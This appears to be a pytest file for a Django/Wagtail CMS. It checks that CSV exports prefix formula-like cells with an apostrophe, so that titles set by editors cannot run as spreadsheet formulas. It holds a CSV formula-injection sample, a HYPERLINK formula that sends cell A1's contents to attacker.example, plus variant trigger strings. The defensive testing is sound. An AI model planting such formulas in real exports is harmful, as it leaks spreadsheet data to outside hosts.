"""CSV formula injection (issue 14, finding 7): a title a locality editor
sets through the admin reaches the national team's CSV exports as text.

A spreadsheet evaluates a cell starting with ``=``, ``+``, ``-`` or ``@``, also
after leading spaces and in full-width forms; every such cell is written
with a leading apostrophe (``cms.spreadsheets``).
"""

import csv
import io

from django.urls import reverse

import pytest

from cms.spreadsheets import spreadsheet_safe
from tests.sites import test_permissions as permission_world

world_once = permission_world.world_once
world = permission_world.world
login = permission_world.login

pytestmark = pytest.mark.django_db

FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"


def csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def evaluated_cells(rows):
    """Cells a spreadsheet would run as a formula."""
    return [cell for row in rows for cell in row if cell != spreadsheet_safe(cell)]


@pytest.mark.parametrize(
    "value",
    ["=1+1", " =1+1", "\u3000=1+1", "＝1+1", "﹦1+1", "+1", "-1+2", "@SUM(A1)", "＠SUM(A1)", "\t=1", "\u22121"],
)
def test_formula_like_cells_are_kept_as_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Hackney guide", "1+1", "", "email me@example.org", 3, None])
def test_ordinary_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_site_history_export_keeps_a_publishers_formula_title_as_text(world, login):
    step = world.page("own_step")
    edit = login("publisher").post(
        reverse("wagtailadmin_pages:edit", args=[step.pk]),
        permission_world.page_form(step, title=FORMULA_TITLE, **{"action-publish": "action-publish"}),
    )
    assert edit.status_code == 302
    rows = csv_rows(login("national").get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA_TITLE in cells
    assert evaluated_cells(rows) == []


def test_downloads_export_keeps_an_editors_formula_document_title_as_text(world, login, client):
    document = world.hackney_document
    edit = login("editor").post(
        reverse("wagtaildocs:edit", args=[document.pk]),
        {"title": FORMULA_TITLE, "collection": document.collection_id, "tags": ""},
    )
    assert edit.status_code == 302
    client.logout()
    assert client.get(document.url, HTTP_USER_AGENT=BROWSER).status_code == 200
    rows = csv_rows(login("national").get(reverse("resources_downloads_report"), {"export": "csv"}))
    assert any("'" + FORMULA_TITLE in row for row in rows)
    assert evaluated_cells(rows) == []
